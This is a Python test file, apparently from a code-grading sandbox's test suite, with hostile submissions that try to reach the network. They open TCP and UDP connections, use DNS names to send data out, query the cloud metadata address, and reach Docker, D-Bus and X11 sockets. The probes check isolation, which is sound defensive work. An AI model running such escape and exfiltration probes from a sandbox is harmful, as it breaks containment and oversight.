"""Submissions that call somebody."""

from __future__ import annotations

from tests.grading.batch.hostile.attempts import attempt, targets
from tests.grading.batch.hostile.submission import REST, code


@code()
def calls_by_tcp():
    """Connects by TCP to the grader's machine and to the world."""
    import socket
    import urllib.request

    for host in ("127.0.0.1", *targets()["addresses"]):
        grader = (host, targets()["tcp"])
        attempt(host, lambda grader=grader: socket.create_connection(grader, timeout=1))
    attempt("world", lambda: socket.create_connection(("1.1.1.1", 53), timeout=1))
    attempt("ipv6", lambda: socket.create_connection(("2606:4700:4700::1111", 53), timeout=1))
    attempt("metadata", lambda: socket.create_connection(("169.254.169.254", 80), timeout=1))
    attempt("http", lambda: urllib.request.urlopen("http://example.org", timeout=1))
    attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
    attempt("packets", lambda: socket.socket(17, socket.SOCK_RAW))
    attempt("virtual machine", lambda: socket.socket(40, socket.SOCK_STREAM))
    attempt("bluetooth", lambda: socket.socket(31, socket.SOCK_STREAM))


@code(REST, may=("to itself",))
def calls_by_udp_and_dns():
    """Sends secrets away by UDP and in names to be resolved."""
    import socket

    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    attempt("to itself", lambda: sender.sendto(b"hello", ("127.0.0.1", targets()["udp"])))
    for address in targets()["addresses"]:
        attempt(address, lambda to=address: sender.sendto(b"hello", (to, targets()["udp"])))
    attempt("world", lambda: sender.sendto(b"hello", ("1.1.1.1", 53)))
    attempt("everybody", lambda: sender.sendto(b"hello", ("224.0.0.1", targets()["udp"])))
    attempt("resolve", lambda: socket.getaddrinfo("secret.example.org", 80))


@code()
def calls_by_unix_sockets():
    """Connects to Unix sockets of the machine, those without a path too."""
    import glob
    import socket

    def connect(address):
        with socket.socket(socket.AF_UNIX) as caller:
            caller.connect(address)

    attempt("path", lambda: connect(targets()["socket"]))
    attempt("abstract", lambda: connect("\0" + targets()["abstract"]))
    for path in ("/run/docker.sock", "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0"):
        attempt(path, lambda path=path: connect(path))
    for path in glob.glob("/tmp/cnn-box-*/server") + glob.glob("/tmp/cnn-box-*/*/server"):
        attempt("fork server", lambda path=path: connect(path))
